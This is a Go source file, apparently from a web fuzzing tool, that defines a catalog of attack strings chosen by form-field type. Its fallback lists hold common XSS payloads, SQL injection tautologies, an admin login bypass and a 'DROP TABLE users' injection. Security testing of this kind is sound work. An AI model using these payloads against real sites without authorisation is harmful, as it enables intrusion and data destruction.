// Package payloads holds the payload catalog: attack strings grouped by
// vulnerability category, selected per field type. The catalog is
// static; the same field type always yields the same payloads in the
// same order.
package payloads

import (
	"github.com/PentesterFlow/OpenFuzzer/internal/browser"
)

// Category classifies a payload by the vulnerability it probes for.
type Category string

// Known payload categories.
const (
	CategoryXSS     Category = "xss"
	CategorySQLi    Category = "sqli"
	CategorySSRF    Category = "ssrf"
	CategoryCSRF    Category = "csrf"
	CategoryGeneric Category = "generic"
)

// Payload is one attack string plus its metadata.
type Payload struct {
	Value       string   `json:"value"`
	Category    Category `json:"category"`
	Name        string   `json:"name"`
	Description string   `json:"description,omitempty"`
}

// Provider supplies the payloads of one category, filtered to what is
// plausible for a given field type.
type Provider interface {
	// Category returns the category this provider covers.
	Category() Category

	// PayloadsFor returns the payloads relevant to the field type.
	// May be empty for types the category does not apply to.
	PayloadsFor(fieldType browser.FieldType) []Payload
}

// Catalog aggregates payload providers. Providers contribute in
// registration order, so selection is deterministic.
type Catalog struct {
	providers []Provider
}

// NewCatalog returns a catalog with all built-in providers registered,
// in stable order.
func NewCatalog() *Catalog {
	c := &Catalog{}
	c.Register(CSRFProvider{})
	c.Register(SQLiProvider{})
	c.Register(SSRFProvider{})
	c.Register(XSSProvider{})
	return c
}

// Register appends a provider. Order matters: payloads are returned in
// provider registration order.
func (c *Catalog) Register(p Provider) {
	c.providers = append(c.providers, p)
}

// Categories lists the registered categories in order.
func (c *Catalog) Categories() []Category {
	out := make([]Category, 0, len(c.providers))
	for _, p := range c.providers {
		out = append(out, p.Category())
	}
	return out
}

// PayloadsForField returns the payloads to try against a field,
// concatenated across providers in registration order. Never empty:
// when no provider contributes, a generic default set is returned.
func (c *Catalog) PayloadsForField(field browser.Field) []Payload {
	out := make([]Payload, 0)
	for _, p := range c.providers {
		out = append(out, p.PayloadsFor(field.Type)...)
	}
	if len(out) == 0 {
		return defaultPayloads(field.Type)
	}
	return out
}

// defaultPayloads is the fallback set for field types no provider
// covers.
func defaultPayloads(fieldType browser.FieldType) []Payload {
	switch fieldType {
	case browser.FieldText, browser.FieldSearch, browser.FieldURL,
		browser.FieldTel, browser.FieldEmail:
		return []Payload{
			{Value: "test", Category: CategoryGeneric, Name: "Basic Text"},
			{Value: "<script>alert(1)</script>", Category: CategoryXSS, Name: "Basic XSS"},
			{Value: "' OR '1'='1", Category: CategorySQLi, Name: "Basic SQLi"},
			{Value: "<img src=x onerror=alert(1)>", Category: CategoryXSS, Name: "Image XSS"},
			{Value: "javascript:alert(1)", Category: CategoryXSS, Name: "JavaScript Protocol"},
		}
	case browser.FieldNumber:
		return []Payload{
			{Value: "0", Category: CategoryGeneric, Name: "Zero"},
			{Value: "999999", Category: CategoryGeneric, Name: "Large Number"},
			{Value: "-1", Category: CategoryGeneric, Name: "Negative Number"},
			{Value: "1 OR 1=1", Category: CategorySQLi, Name: "Numeric SQLi"},
			{Value: "1; DROP TABLE users", Category: CategorySQLi, Name: "Numeric Drop"},
		}
	case browser.FieldPassword:
		return []Payload{
			{Value: "password123", Category: CategoryGeneric, Name: "Common Password"},
			{Value: "' OR '1'='1", Category: CategorySQLi, Name: "SQLi in Password"},
			{Value: "admin'--", Category: CategorySQLi, Name: "Admin Bypass"},
		}
	case browser.FieldHidden:
		return []Payload{
			{Value: "modified_value", Category: CategoryGeneric, Name: "Modified Hidden"},
			{Value: "' OR '1'='1", Category: CategorySQLi, Name: "SQLi in Hidden"},
			{Value: "<script>alert(1)</script>", Category: CategoryXSS, Name: "XSS in Hidden"},
		}
	case browser.FieldButton, browser.FieldSubmit:
		return []Payload{
			{Value: "<script>alert(1)</script>", Category: CategoryXSS, Name: "XSS in Button"},
			{Value: "javascript:alert(1)", Category: CategoryXSS, Name: "JavaScript Protocol"},
			{Value: "' OR '1'='1", Category: CategorySQLi, Name: "SQLi in Button Value"},
		}
	default:
		return []Payload{
			{Value: "test", Category: CategoryGeneric, Name: "Default Test"},
		}
	}
}
